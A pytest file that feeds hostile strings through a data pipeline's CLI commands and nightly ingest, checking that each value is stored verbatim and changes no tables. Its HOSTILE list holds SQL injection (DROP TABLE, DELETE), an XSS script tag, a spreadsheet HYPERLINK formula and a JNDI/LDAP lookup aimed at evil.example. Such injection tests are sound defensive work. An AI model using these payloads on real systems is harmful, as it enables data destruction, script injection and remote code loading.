"""Hostile text — quotes, SQL, control characters, bidi marks, very long values — is stored
verbatim wherever it goes, and nothing else happens: no table changes, no markup in the
report, no error other than the ordinary validation of that row."""

from __future__ import annotations

import csv
import json
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from pipeline.cli import app
from pipeline.config import IngestSettings, Settings, load_settings
from pipeline.night import run_night
from pipeline.publish import warehouse
from pipeline.schemas import CONTRACT_COLUMNS

sys.path.insert(0, str(Path(__file__).parent.parent))
sys.path.insert(0, str(Path(__file__).parent.parent / "publish"))
sys.path.insert(0, str(Path(__file__).parent.parent / "recovery"))
from builders import write_delivery
from nights import NIGHTS, audit_tables, write_county
from world import build_two_nights

HOSTILE = [
    "O'Brien-D'Arcy",
    'Say "hello"',
    "'; DROP TABLE raw.health_register; --",
    "Robert'); DELETE FROM audit.run_log; --",
    "\u202eevil\u202c and \u200fRTL\u200e",
    "tab\there, bell\x07, escape\x1b[31mred",
    "two\nlines and\r\nCRLF",
    "<script>alert('x')</script>",
    "=HYPERLINK(\"http://evil.example\",\"click\")",
    "${jndi:ldap://evil.example/a} {{7*7}} %s%n $1",
    "zero\u200bwidth, baby \U0001f476\U0001f3fd, Zoë Łukasz",
    "L" * 20_000,
]
runner = CliRunner()


def _tables(published: Path) -> list[tuple[str, str, str]]:
    with warehouse.open_reader(published) as wh:
        return [tuple(r) for r in wh.literal_rows(
            "SELECT table_schema, table_name, table_type FROM information_schema.tables "
            "WHERE table_catalog = 'wh' ORDER BY ALL")]


# ---- command-line arguments (fast) ---------------------------------------------------------
@pytest.fixture
def published(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = tmp_path / "wh" / "warehouse.duckdb"
    monkeypatch.setenv("HEARTH_WAREHOUSE", str(path))
    with warehouse.open_writer(path) as wh:
        build_two_nights(wh)
        warehouse.refresh_published(wh)
    return path


@pytest.mark.parametrize("text", HOSTILE)
def test_decide_stores_reason_and_who_verbatim(published: Path, text: str) -> None:
    tables = _tables(published)
    result = runner.invoke(app, ["decide", "H1", "--level", "high", "--reason", text, "--as", text])
    assert result.exit_code == 0, result.output
    with warehouse.open_reader(published) as wh:
        assert wh.literal_rows("SELECT household_id, decided_by, reason FROM audit.coordinator_decisions") == [("H1", text, text)]
    assert _tables(published) == tables


@pytest.mark.parametrize("text", HOSTILE[:6])
def test_review_stores_note_and_who_verbatim(published: Path, text: str) -> None:
    pair = "health_register:N1=health_register:N2"
    result = runner.invoke(app, ["review", "--reject", pair, "--note", text, "--as", text])
    assert result.exit_code == 0, result.output
    with warehouse.open_reader(published) as wh:
        rows = wh.literal_rows("SELECT decided_by, left_id, right_id, decision, note FROM audit.review_decisions")
    assert rows == [(text, "health_register:N1", "health_register:N2", "nonmatch", text)]


@pytest.mark.parametrize("text", HOSTILE[:6])
def test_review_of_a_hostile_pair_is_refused_and_nothing_stored(published: Path, text: str) -> None:
    tables = _tables(published)
    result = runner.invoke(app, ["review", "--reject", f"left {text}=health_register:N1", "--as", text])
    assert result.exit_code == 2, result.output
    assert "no decision recorded" in result.output
    with warehouse.open_writer(published) as wh:
        assert wh.literal_rows("SELECT count(*) FROM audit.review_decisions") == [(0,)]
    assert _tables(published) == tables


@pytest.mark.parametrize("text", HOSTILE)
def test_explain_with_a_hostile_child_id_is_an_ordinary_not_found(published: Path, text: str) -> None:
    tables = _tables(published)
    result = runner.invoke(app, ["explain", text, "--as", text])
    assert result.exit_code == 2, result.output
    assert "no child" in result.output
    assert _tables(published) == tables


# ---- a delivery through the real night (slow) --------------------------------------------------
def _hostile_row(source: str, i: int) -> dict[str, str]:
    return {c: HOSTILE[(i + j) % len(HOSTILE)] for j, c in enumerate(CONTRACT_COLUMNS[source])}


@pytest.mark.slow
def test_hostile_values_in_every_column_of_a_delivery_are_kept_verbatim(tmp_path: Path) -> None:
    settings: Settings = load_settings(
        landing_dir=tmp_path / "landing", warehouse=tmp_path / "wh" / "warehouse.duckdb",
        reports_dir=tmp_path / "reports", ingest=IngestSettings(police_max_reject_share=1.0),  # type: ignore[call-arg]
    )
    write_county(settings.landing_dir, households=12)
    day = NIGHTS[0]
    hostile: dict[str, list[dict[str, str]]] = {}
    for source in CONTRACT_COLUMNS:
        path = settings.landing_dir / day.isoformat() / f"{source}.csv"
        # A partner source this county does not deliver gets the hostile rows alone.
        rows = []
        if path.exists():
            with path.open(newline="", encoding="utf-8") as fh:
                rows = list(csv.DictReader(fh))
        # Every column of every source gets every hostile value once (a row per offset).
        hostile[source] = [_hostile_row(source, i) for i in range(len(HOSTILE))]
        write_delivery(settings.landing_dir, day, source, rows + hostile[source])
        valid = len(rows)
        hostile[source] = [{**r, "_row": str(valid + n + 1)} for n, r in enumerate(hostile[source])]

    run_night(day, settings, trigger="test")

    with warehouse.open_reader(settings.warehouse) as wh:
        for source, rows in hostile.items():
            columns = list(CONTRACT_COLUMNS[source])
            stored = {
                str(r[0]): dict(zip(columns, r[1:], strict=True))
                for r in wh.literal_rows(f"SELECT _row, {', '.join(columns)} FROM raw.{source} WHERE delivery_date = ?", [day])
            }
            for row in rows:
                expected = {c: row[c] for c in columns}
                assert stored[row["_row"]] == expected, f"raw.{source} row {row['_row']} not verbatim"
            quarantined = {
                str(r[0]): json.loads(r[1])
                for r in wh.literal_rows("SELECT _row, record FROM restricted.rejected_rows WHERE source = ?", [source])
            }
            for row in rows:
                assert row["_row"] in quarantined, f"{source} row {row['_row']} should be quarantined"
                assert {c: quarantined[row["_row"]].get(c) for c in columns} == {c: row[c] for c in columns}
        assert wh.literal_rows("SELECT status FROM audit.runs") == [("succeeded",)]
    assert "audit.run_log" in audit_tables(settings.warehouse)
    html = next((settings.reports_dir / day.isoformat()).glob("*.html")).read_text(encoding="utf-8")
    assert "<script>alert" not in html
